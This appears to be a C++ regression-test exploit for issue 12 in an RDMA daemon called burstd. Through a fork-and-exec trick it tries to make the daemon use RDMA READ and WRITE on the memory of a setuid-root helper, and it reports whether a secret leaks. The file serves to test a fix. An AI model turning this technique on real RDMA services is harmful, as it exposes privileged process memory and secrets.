// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// The attack of issue 12, with stock libibverbs only (run under `burstctl run`
// by attack_test.sh): can an unprivileged client make burstd reach the memory
// of another process image, a setuid-root program, with burstd's privileges?
//
//   attacker --order before|after --dir D --addr X --helper PATH --secret FILE
//            [--gid-index N]
//     A (this process, unprivileged) opens burst0 and creates a PD and three RC
//     QPs (READ target, WRITE target, its own work request). before: A maps a
//     harmless page of its own at X and registers an MR over it
//     (LOCAL_WRITE|REMOTE_READ|REMOTE_WRITE). A forks C, then A execs the
//     setuid helper (PATH SECRET D X), which puts the secret in a page at X.
//     C keeps the verbs objects (socket and rings survive fork; burstd still
//     knows the connection by A's pid). after: once the helper is ready, C maps
//     a harmless page at X in its own space and registers the MR over it. C
//     publishes its QPs and the MR (D/attacker.info), connects to the peer, and
//     posts an RDMA WRITE of its own from the MR to the peer's sink buffer
//     (vulnerable burstd gathers it from the helper's page; fixed, it must
//     fail: the address space the client handed over is gone with A's exec).
//     C reports that completion ("attacker: ...", D/attacker.wr) and waits for
//     D/done.
//   peer --dir D [--gid-index N]
//     On the other burstd: publishes its QPs and a sink MR (D/peer.info),
//     connects, waits for C's work request, RDMA READs 4096 bytes of the
//     attacker's MR into a zeroed buffer (-> D/peer.read) and RDMA WRITEs a
//     marker into it; prints each status and the first bytes it got, and dumps
//     what C's WRITE put in its sink (-> D/peer.sink).
//
// Files in D are written whole (write + rename). Every wait is bounded; a
// completion that does not come within 8 s is reported as such. Exit 0 when
// the role ran to the end (whatever the statuses), 2 when setup failed.
#include <infiniband/verbs.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <chrono>
#include <cinttypes>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <vector>

#include "tests/provider/probe_util.h"

namespace {

constexpr size_t kLen = 4096;
constexpr int kQps = 3;  // 0: the peer's READ, 1: the peer's WRITE, 2: C's own WRITE
constexpr int kCompletionTimeoutS = 8;
constexpr char kMarker[] = "PEER-RDMA-WRITE!";  // 16 bytes, repeated over the page

[[noreturn]] void setup_failed(const char* role, const std::string& what) {
  std::printf("%s: setup failed: %s\n", role, what.c_str());
  std::fflush(stdout);
  std::exit(2);
}

std::string errno_text(const char* what) { return std::string(what) + ": " + std::strerror(errno); }

const char* status_name(int s) {
#define BURST_WC_STATUS(x) \
  case x:                  \
    return #x;
  switch (s) {
    BURST_WC_STATUS(IBV_WC_SUCCESS)
    BURST_WC_STATUS(IBV_WC_LOC_LEN_ERR)
    BURST_WC_STATUS(IBV_WC_LOC_QP_OP_ERR)
    BURST_WC_STATUS(IBV_WC_LOC_EEC_OP_ERR)
    BURST_WC_STATUS(IBV_WC_LOC_PROT_ERR)
    BURST_WC_STATUS(IBV_WC_WR_FLUSH_ERR)
    BURST_WC_STATUS(IBV_WC_MW_BIND_ERR)
    BURST_WC_STATUS(IBV_WC_BAD_RESP_ERR)
    BURST_WC_STATUS(IBV_WC_LOC_ACCESS_ERR)
    BURST_WC_STATUS(IBV_WC_REM_INV_REQ_ERR)
    BURST_WC_STATUS(IBV_WC_REM_ACCESS_ERR)
    BURST_WC_STATUS(IBV_WC_REM_OP_ERR)
    BURST_WC_STATUS(IBV_WC_RETRY_EXC_ERR)
    BURST_WC_STATUS(IBV_WC_RNR_RETRY_EXC_ERR)
    BURST_WC_STATUS(IBV_WC_LOC_RDD_VIOL_ERR)
    BURST_WC_STATUS(IBV_WC_REM_INV_RD_REQ_ERR)
    BURST_WC_STATUS(IBV_WC_REM_ABORT_ERR)
    BURST_WC_STATUS(IBV_WC_INV_EECN_ERR)
    BURST_WC_STATUS(IBV_WC_INV_EEC_STATE_ERR)
    BURST_WC_STATUS(IBV_WC_FATAL_ERR)
    BURST_WC_STATUS(IBV_WC_RESP_TIMEOUT_ERR)
    BURST_WC_STATUS(IBV_WC_GENERAL_ERR)
    default:
      return "IBV_WC_(unknown)";
  }
#undef BURST_WC_STATUS
}

// ---- files in D: KEY=VALUE words, published whole -------------------------

using Kv = std::map<std::string, std::string>;

void publish(const std::string& dir, const std::string& name, const std::string& text) {
  const std::string tmp = dir + "/." + name + ".tmp";
  const std::string path = dir + "/" + name;
  FILE* f = std::fopen(tmp.c_str(), "w");
  if (f == nullptr) setup_failed("publish", errno_text(tmp.c_str()));
  std::fputs(text.c_str(), f);
  if (std::fclose(f) != 0 || std::rename(tmp.c_str(), path.c_str()) != 0) {
    setup_failed("publish", errno_text(path.c_str()));
  }
}

void dump(const std::string& path, const void* data, size_t len) {
  FILE* f = std::fopen(path.c_str(), "w");
  if (f == nullptr || std::fwrite(data, 1, len, f) != len || std::fclose(f) != 0) {
    setup_failed("dump", errno_text(path.c_str()));
  }
}

void sleep_ms(long ms) {
  const timespec ts{ms / 1000, (ms % 1000) * 1'000'000L};
  nanosleep(&ts, nullptr);
}

// Waits (bounded) for D/name; false on timeout.
bool wait_file(const std::string& dir, const std::string& name, int seconds) {
  const std::string path = dir + "/" + name;
  for (int i = 0; i < seconds * 50; ++i) {
    struct stat st;
    if (stat(path.c_str(), &st) == 0) return true;
    sleep_ms(20);
  }
  return false;
}

Kv read_kv(const std::string& dir, const std::string& name) {
  Kv kv;
  FILE* f = std::fopen((dir + "/" + name).c_str(), "r");
  if (f == nullptr) return kv;
  char word[256];
  while (std::fscanf(f, "%255s", word) == 1) {
    const char* eq = std::strchr(word, '=');
    if (eq != nullptr) kv[std::string(word, static_cast<size_t>(eq - word))] = eq + 1;
  }
  std::fclose(f);
  return kv;
}

uint64_t num(const Kv& kv, const char* key) {
  auto it = kv.find(key);
  return it == kv.end() ? 0 : std::strtoull(it->second.c_str(), nullptr, 0);
}

std::string gid_hex(const ibv_gid& g) {
  char s[33];
  for (int i = 0; i < 16; ++i) std::snprintf(s + 2 * i, 3, "%02x", g.raw[i]);
  return s;
}

bool parse_gid(const std::string& hex, ibv_gid* g) {
  if (hex.size() != 32) return false;
  for (int i = 0; i < 16; ++i) {
    g->raw[i] = static_cast<uint8_t>(std::strtoul(hex.substr(2 * i, 2).c_str(), nullptr, 16));
  }
  return true;
}

// Printable form of the first bytes of a buffer (what a reader of the log sees).
std::string preview(const uint8_t* p, size_t n) {
  std::string s;
  for (size_t i = 0; i < n; ++i) s += (p[i] >= 0x20 && p[i] < 0x7f) ? static_cast<char>(p[i]) : '.';
  return s;
}

// ---- verbs ------------------------------------------------------------------

struct Side {
  const char* role;
  int gid_index = 1;
  ibv_context* ctx = nullptr;
  ibv_pd* pd = nullptr;
  ibv_gid gid{};
  ibv_cq* cq[kQps] = {};
  ibv_qp* qp[kQps] = {};
};

void open_side(Side* s) {
  s->ctx = burst::test::open_burst0();
  s->pd = ibv_alloc_pd(s->ctx);
  if (s->pd == nullptr) setup_failed(s->role, errno_text("ibv_alloc_pd"));
  if (ibv_query_gid(s->ctx, 1, s->gid_index, &s->gid) != 0) {
    setup_failed(s->role, errno_text("ibv_query_gid"));
  }
  for (int i = 0; i < kQps; ++i) {
    s->cq[i] = ibv_create_cq(s->ctx, 16, nullptr, nullptr, 0);
    if (s->cq[i] == nullptr) setup_failed(s->role, errno_text("ibv_create_cq"));
    ibv_qp_init_attr a{};
    a.send_cq = a.recv_cq = s->cq[i];
    a.qp_type = IBV_QPT_RC;
    a.cap.max_send_wr = a.cap.max_recv_wr = 8;
    a.cap.max_send_sge = a.cap.max_recv_sge = 1;
    s->qp[i] = ibv_create_qp(s->pd, &a);
    if (s->qp[i] == nullptr) setup_failed(s->role, errno_text("ibv_create_qp"));
  }
}

uint32_t psn_of(uint32_t qpn) { return (qpn * 2654435761u) & 0xffffff; }

std::string qp_words(const Side& s) {
  std::string w = "gid=" + gid_hex(s.gid);
  for (int i = 0; i < kQps; ++i)
    w += " qpn" + std::to_string(i) + "=" + std::to_string(s.qp[i]->qp_num);
  return w;
}

// INIT -> RTR -> RTS against the other side's QPs (retry_cnt 7, timeout 14:
// about 67 ms per try, so a dead peer fails within a second). Returns "" or
// what failed (the attacker goes on: burstd may refuse it after the exec).
std::string connect_side(Side* s, const Kv& other) {
  ibv_gid dgid{};
  if (!parse_gid(other.count("gid") ? other.at("gid") : "", &dgid)) {
    return "no GID from the other side";
  }
  for (int i = 0; i < kQps; ++i) {
    const uint32_t dest = static_cast<uint32_t>(num(other, ("qpn" + std::to_string(i)).c_str()));
    const std::string qp = "QP " + std::to_string(i) + ": ";
    ibv_qp_attr a{};
    a.qp_state = IBV_QPS_INIT;
    a.port_num = 1;
    a.qp_access_flags = IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ;
    if (int e = ibv_modify_qp(s->qp[i], &a,
                              IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_ACCESS_FLAGS);
        e != 0) {
      return qp + "modify_qp INIT: " + std::strerror(e);
    }
    a = ibv_qp_attr{};
    a.qp_state = IBV_QPS_RTR;
    a.path_mtu = IBV_MTU_1024;
    a.dest_qp_num = dest;
    a.rq_psn = psn_of(dest);
    a.max_dest_rd_atomic = 4;
    a.min_rnr_timer = 12;
    a.ah_attr.is_global = 1;
    a.ah_attr.grh.dgid = dgid;
    a.ah_attr.grh.sgid_index = static_cast<uint8_t>(s->gid_index);
    a.ah_attr.grh.hop_limit = 64;
    a.ah_attr.port_num = 1;
    if (int e = ibv_modify_qp(s->qp[i], &a,
                              IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN |
                                  IBV_QP_RQ_PSN | IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER);
        e != 0) {
      return qp + "modify_qp RTR: " + std::strerror(e);
    }
    a = ibv_qp_attr{};
    a.qp_state = IBV_QPS_RTS;
    a.timeout = 14;
    a.retry_cnt = 7;
    a.rnr_retry = 3;  // 7 would retry forever
    a.sq_psn = psn_of(s->qp[i]->qp_num);
    a.max_rd_atomic = 4;
    if (int e = ibv_modify_qp(s->qp[i], &a,
                              IBV_QP_STATE | IBV_QP_TIMEOUT | IBV_QP_RETRY_CNT | IBV_QP_RNR_RETRY |
                                  IBV_QP_SQ_PSN | IBV_QP_MAX_QP_RD_ATOMIC);
        e != 0) {
      return qp + "modify_qp RTS: " + std::strerror(e);
    }
  }
  return "";
}

// One signalled RDMA READ/WRITE on QP i and its completion, as text:
// "status=NAME" (a completion), "status=POST_FAILED_<errno>", "status=POLL_FAILED"
// or "status=NO_COMPLETION" (nothing within 8 s), plus "qp_state=ERR|N|unknown"
// then (unknown: ibv_query_qp failed, e.g. burstd no longer serves the context).
std::string rdma(Side* s, int i, ibv_wr_opcode op, void* local, uint32_t lkey, uint64_t raddr,
                 uint32_t rkey) {
  ibv_sge sge{reinterpret_cast<uintptr_t>(local), static_cast<uint32_t>(kLen), lkey};
  ibv_send_wr wr{};
  wr.wr_id = 0x5ec0 + static_cast<uint64_t>(i);
  wr.sg_list = &sge;
  wr.num_sge = 1;
  wr.opcode = op;
  wr.send_flags = IBV_SEND_SIGNALED;
  wr.wr.rdma.remote_addr = raddr;
  wr.wr.rdma.rkey = rkey;
  ibv_send_wr* bad = nullptr;
  if (int e = ibv_post_send(s->qp[i], &wr, &bad); e != 0) {
    return "status=POST_FAILED_" + std::to_string(e);
  }
  const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(kCompletionTimeoutS);
  while (std::chrono::steady_clock::now() < end) {
    ibv_wc wc{};
    const int n = ibv_poll_cq(s->cq[i], 1, &wc);
    if (n < 0) return "status=POLL_FAILED";
    if (n == 1) {
      return std::string("status=") + status_name(wc.status) +
             " vendor_err=" + std::to_string(wc.vendor_err);
    }
    sleep_ms(1);
  }
  ibv_qp_attr qa{};
  ibv_qp_init_attr qi{};
  std::string state = "unknown";
  if (ibv_query_qp(s->qp[i], &qa, IBV_QP_STATE, &qi) == 0) {
    state = qa.qp_state == IBV_QPS_ERR ? "ERR" : std::to_string(qa.qp_state);
  }
  return "status=NO_COMPLETION qp_state=" + state;
}

// The word after "status=" (for the one-line summaries).
std::string status_word(const std::string& r) {
  const size_t p = r.find("status=") + 7;
  return r.substr(p, r.find(' ', p) - p);
}

// ---- roles --------------------------------------------------------------------

struct Args {
  std::string order, dir, helper, secret;
  uint64_t addr = 0x6f0000000000;
  int gid_index = 1;
};

void* map_at(uint64_t addr) {
  void* p = mmap(reinterpret_cast<void*>(addr), kLen, PROT_READ | PROT_WRITE,
                 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
  if (p == MAP_FAILED) return nullptr;
  if (reinterpret_cast<uintptr_t>(p) != addr) {
    munmap(p, kLen);
    errno = EEXIST;
    return nullptr;
  }
  // Harmless bytes of the attacker's own.
  static const char kMine[] = "the attacker's own harmless page";
  for (size_t i = 0; i < kLen; ++i) static_cast<char*>(p)[i] = kMine[i % (sizeof(kMine) - 1)];
  return p;
}

constexpr int kRemoteAccess =
    IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_WRITE;

int attacker(const Args& a) {
  Side s{"attacker"};
  s.gid_index = a.gid_index;
  open_side(&s);
  // A page of A's own for C's work request if the MR over X is refused.
  void* own = map_at(a.addr + 16 * kLen);
  if (own == nullptr) setup_failed("attacker", errno_text("mmap own page"));
  ibv_mr* own_mr = ibv_reg_mr(s.pd, own, kLen, IBV_ACCESS_LOCAL_WRITE);
  if (own_mr == nullptr) setup_failed("attacker", errno_text("ibv_reg_mr own page"));

  ibv_mr* mr = nullptr;
  std::string mr_note = "mr=none";
  if (a.order == "before") {
    void* page = map_at(a.addr);
    if (page == nullptr) setup_failed("attacker", errno_text("mmap at --addr"));
    mr = ibv_reg_mr(s.pd, page, kLen, kRemoteAccess);
    if (mr == nullptr) setup_failed("attacker", errno_text("ibv_reg_mr over its own page"));
    std::printf("attacker: A (pid %d) registered its own page %#" PRIx64
                " (rkey %#x) before exec\n",
                static_cast<int>(getpid()), a.addr, mr->rkey);
  }

  std::fflush(stdout);
  const pid_t a_pid = getpid();
  const pid_t child = fork();
  if (child < 0) setup_failed("attacker", errno_text("fork"));
  if (child > 0) {
    // A: becomes the setuid helper. burstd still has A's pid for the connection.
    const std::string addr = std::to_string(a.addr);
    execl(a.helper.c_str(), a.helper.c_str(), a.secret.c_str(), a.dir.c_str(), addr.c_str(),
          static_cast<char*>(nullptr));
    std::printf("attacker: exec %s: %s\n", a.helper.c_str(), std::strerror(errno));
    std::fflush(stdout);
    _exit(127);
  }

  // C: keeps the verbs objects; dies with the helper at the latest.
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  if (getppid() != a_pid) _exit(2);
  if (!wait_file(a.dir, "helper.ready", 20))
    setup_failed("attacker", "the helper did not get ready");
  const Kv helper = read_kv(a.dir, "helper.ready");
  std::printf(
      "attacker: C (pid %d) holds the connection; A's pid %d is now the setuid helper "
      "(ready: pid=%s)\n",
      static_cast<int>(getpid()), static_cast<int>(a_pid),
      helper.count("pid") ? helper.at("pid").c_str() : "?");

  if (a.order == "after") {
    void* page = map_at(a.addr);
    if (page == nullptr) setup_failed("attacker", errno_text("mmap at --addr in C"));
    mr = ibv_reg_mr(s.pd, page, kLen, kRemoteAccess);
    if (mr == nullptr) {
      mr_note = std::string("mr=refused_") + std::to_string(errno);
      std::printf("attacker: C's ibv_reg_mr over its own page %#" PRIx64 " after the exec: %s\n",
                  a.addr, std::strerror(errno));
    } else {
      std::printf("attacker: C registered its own page %#" PRIx64 " (rkey %#x) after the exec\n",
                  a.addr, mr->rkey);
    }
  }
  if (mr != nullptr) mr_note = "mr=ok";

  publish(a.dir, "attacker.info",
          qp_words(s) + " " + mr_note + " rkey=" + std::to_string(mr != nullptr ? mr->rkey : 0) +
              " addr=" + std::to_string(a.addr) + " c_pid=" + std::to_string(getpid()) + "\n");
  if (!wait_file(a.dir, "peer.info", 30)) setup_failed("attacker", "no peer.info");
  const Kv peer = read_kv(a.dir, "peer.info");
  const std::string conn = connect_side(&s, peer);
  if (!conn.empty()) std::printf("attacker: connecting after the exec failed: %s\n", conn.c_str());
  publish(a.dir, "attacker.rts", conn.empty() ? "ok\n" : "failed\n");
  if (!wait_file(a.dir, "peer.rts", 30)) setup_failed("attacker", "the peer did not connect");

  // C's own work request after the exec: a WRITE from the MR (the page burstd
  // reaches for it) into the peer's sink.
  void* src = mr != nullptr ? mr->addr : own;
  const uint32_t lkey = mr != nullptr ? mr->lkey : own_mr->lkey;
  const std::string r = rdma(&s, 2, IBV_WR_RDMA_WRITE, src, lkey, num(peer, "sink_addr"),
                             static_cast<uint32_t>(num(peer, "sink_rkey")));
  std::printf("attacker: C's RDMA WRITE after the exec (from %s): %s\n",
              mr != nullptr ? "the MR at --addr" : "A's own page", r.c_str());
  publish(a.dir, "attacker.wr", r + "\n");
  std::fflush(stdout);

  wait_file(a.dir, "done", 60);
  return 0;
}

int peer(const Args& a) {
  Side s{"peer"};
  s.gid_index = a.gid_index;
  open_side(&s);
  std::vector<uint8_t> got(kLen, 0), marker(kLen), sink(kLen, 0);
  for (size_t i = 0; i < kLen; ++i) marker[i] = static_cast<uint8_t>(kMarker[i % 16]);
  ibv_mr* got_mr = ibv_reg_mr(s.pd, got.data(), kLen, IBV_ACCESS_LOCAL_WRITE);
  ibv_mr* marker_mr = ibv_reg_mr(s.pd, marker.data(), kLen, IBV_ACCESS_LOCAL_WRITE);
  ibv_mr* sink_mr =
      ibv_reg_mr(s.pd, sink.data(), kLen, IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE);
  if (got_mr == nullptr || marker_mr == nullptr || sink_mr == nullptr) {
    setup_failed("peer", errno_text("ibv_reg_mr"));
  }
  publish(a.dir, "peer.info",
          qp_words(s) + " sink_addr=" + std::to_string(reinterpret_cast<uintptr_t>(sink.data())) +
              " sink_rkey=" + std::to_string(sink_mr->rkey) + "\n");
  if (!wait_file(a.dir, "attacker.info", 40)) setup_failed("peer", "no attacker.info");
  const Kv at = read_kv(a.dir, "attacker.info");
  if (const std::string e = connect_side(&s, at); !e.empty()) setup_failed("peer", e);
  publish(a.dir, "peer.rts", "ok\n");
  if (!wait_file(a.dir, "attacker.rts", 30)) setup_failed("peer", "the attacker did not connect");
  if (!wait_file(a.dir, "attacker.wr", 30)) std::printf("peer: no report of C's WRITE in 30 s\n");

  const uint64_t raddr = num(at, "addr");
  const uint32_t rkey = static_cast<uint32_t>(num(at, "rkey"));
  std::printf("peer: attacker's MR: %s rkey=%#x addr=%#" PRIx64 "\n",
              at.count("mr") ? at.at("mr").c_str() : "?", rkey, raddr);
  const std::string rd = rdma(&s, 0, IBV_WR_RDMA_READ, got.data(), got_mr->lkey, raddr, rkey);
  std::printf("peer: RDMA READ of the attacker's MR (%zu bytes): %s\n", kLen, rd.c_str());
  std::printf("peer: READ buffer begins \"%s\"\n", preview(got.data(), 48).c_str());
  dump(a.dir + "/peer.read", got.data(), kLen);
  const std::string wr =
      rdma(&s, 1, IBV_WR_RDMA_WRITE, marker.data(), marker_mr->lkey, raddr, rkey);
  std::printf("peer: RDMA WRITE of the marker into the attacker's MR: %s\n", wr.c_str());
  std::printf("peer: sink (what C's WRITE delivered) begins \"%s\"\n",
              preview(sink.data(), 48).c_str());
  dump(a.dir + "/peer.sink", sink.data(), kLen);
  publish(a.dir, "peer.done", "read=" + status_word(rd) + " write=" + status_word(wr) + "\n");
  std::fflush(stdout);
  return 0;
}

[[noreturn]] void usage() {
  std::fprintf(stderr,
               "usage: mem_attack attacker --order before|after --dir D --helper PATH "
               "--secret FILE [--addr X] [--gid-index N]\n"
               "       mem_attack peer --dir D [--gid-index N]\n");
  std::exit(2);
}

}  // namespace

int main(int argc, char** argv) {
  setvbuf(stdout, nullptr, _IOLBF, 0);
  if (argc < 2) usage();
  const std::string role = argv[1];
  Args a;
  for (int i = 2; i + 1 < argc; i += 2) {
    const std::string k = argv[i], v = argv[i + 1];
    if (k == "--order")
      a.order = v;
    else if (k == "--dir")
      a.dir = v;
    else if (k == "--helper")
      a.helper = v;
    else if (k == "--secret")
      a.secret = v;
    else if (k == "--addr")
      a.addr = std::strtoull(v.c_str(), nullptr, 0);
    else if (k == "--gid-index")
      a.gid_index = std::atoi(v.c_str());
    else
      usage();
  }
  if (a.dir.empty()) usage();
  if (role == "attacker") {
    if ((a.order != "before" && a.order != "after") || a.helper.empty() || a.secret.empty())
      usage();
    return attacker(a);
  }
  if (role == "peer") return peer(a);
  usage();
}
